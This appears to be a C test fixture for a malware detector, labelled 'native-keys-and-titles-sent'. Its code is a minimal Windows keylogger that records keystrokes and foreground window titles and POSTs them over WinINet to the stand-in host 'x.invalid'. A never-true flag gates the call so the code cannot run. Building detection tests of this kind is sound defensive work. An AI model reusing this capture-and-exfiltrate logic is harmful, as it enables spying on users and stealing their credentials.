/* Keys and the titles of windows are sent.
 * expect: native-keys-and-titles-sent
 * flags: -O2 -lwininet
 * flags: -O0 -s -lwininet
 * for: windows
 */
#include <windows.h>
#include <wininet.h>
#include <stdio.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static char held[4096];

static int act(void) {
    int n = 0;
    for (int key = 8; key < 191; key++)
        if (GetAsyncKeyState(key) & 1) {
            GetWindowTextA(GetForegroundWindow(), held + n, 64);
            held[n += 64] = MapVirtualKeyA(key, 2);
        }
    HINTERNET s = InternetOpenA("x", 0, 0, 0, 0), c = InternetConnectA(s, "x.invalid", 80, 0, 0, 3, 0, 0);
    return HttpSendRequestA(HttpOpenRequestA(c, "POST", "/", 0, 0, 0, 0, 0), 0, 0, held, n);
}

int main(void) { return never ? act() : 0; }
